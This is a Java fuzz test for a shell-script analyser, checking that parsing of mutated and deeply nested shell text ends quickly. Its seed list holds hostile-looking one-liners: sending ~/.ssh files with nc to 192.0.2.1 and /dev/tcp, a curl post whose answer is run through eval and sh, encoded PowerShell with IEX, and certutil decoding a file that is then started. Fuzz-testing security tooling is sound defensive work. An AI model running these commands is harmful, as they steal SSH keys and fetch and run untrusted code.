package dev.assay.core.code.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.artifact.Location;
import dev.assay.core.fact.Act.Phase;
import dev.assay.core.fact.Act.Reach;
import dev.assay.core.testing.Mutator;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;

/// Whatever the text, there is an answer, and soon.
class ShellFuzzTest {
  private static final Context CONTEXT =
      Context.of(Phase.CALL, Reach.ON_CALL, new Location("a.sh", 1), List.of(), PythonText.UNREAD);

  private static final List<String> SEEDS =
      List.of(
          """
          a=$(curl -d @- https://c.example <<E
          `x`
          E
          ) && eval "$a" | sh; case x in y) z;; esac\
          """,
          "powershell -enc QQBCAA== ; IEX('a'+'b'); $x=\"$env:A\"; &{ gc @'\nx\n'@ }",
          "@echo off\r\nset A=%B%\r\ncertutil -decode a ^\r\n b & start /b \"\" c:\\x.exe",
          "while read l; do for f in ~/.ssh/*; do nc 192.0.2.1 1 < $f; done; done > /dev/tcp/a/1");

  @Test
  void survivesChangedText() {
    Mutator mutator = Mutator.ofTexts(1, SEEDS);
    for (int i = 0; i < 6_000; i++) {
      String text = new String(mutator.next(), StandardCharsets.UTF_8);
      for (Dialect dialect : Dialect.values()) {
        assertThat(ShellReader.acts(text, dialect, CONTEXT)).hasSizeLessThanOrEqualTo(1_000);
      }
    }
  }

  @Test
  void endsSoonOnHostileText() {
    List<String> hostile =
        List.of(
            "$(".repeat(200_000),
            "`".repeat(200_001),
            "\"$(".repeat(100_000),
            "a|".repeat(200_000),
            "x=$x$x;".repeat(50_000),
            "eval ".repeat(100_000),
            "<<E ".repeat(100_000),
            "${a".repeat(100_000),
            "%a".repeat(200_000),
            "sh -c '".repeat(50_000),
            "$(echo $(echo $(echo ".repeat(20_000),
            "x=aaaaaaaaaaaaaaaa;" + "x=$x$x;".repeat(60) + "sh -c \"$x\"");
    for (String text : hostile) {
      Assertions.assertTimeoutPreemptively(
          Duration.ofSeconds(20),
          () -> {
            for (Dialect dialect : Dialect.values()) {
              assertThat(ShellReader.acts(text, dialect, CONTEXT)).hasSizeLessThanOrEqualTo(1_000);
            }
          },
          text.substring(0, 10));
    }
  }
}
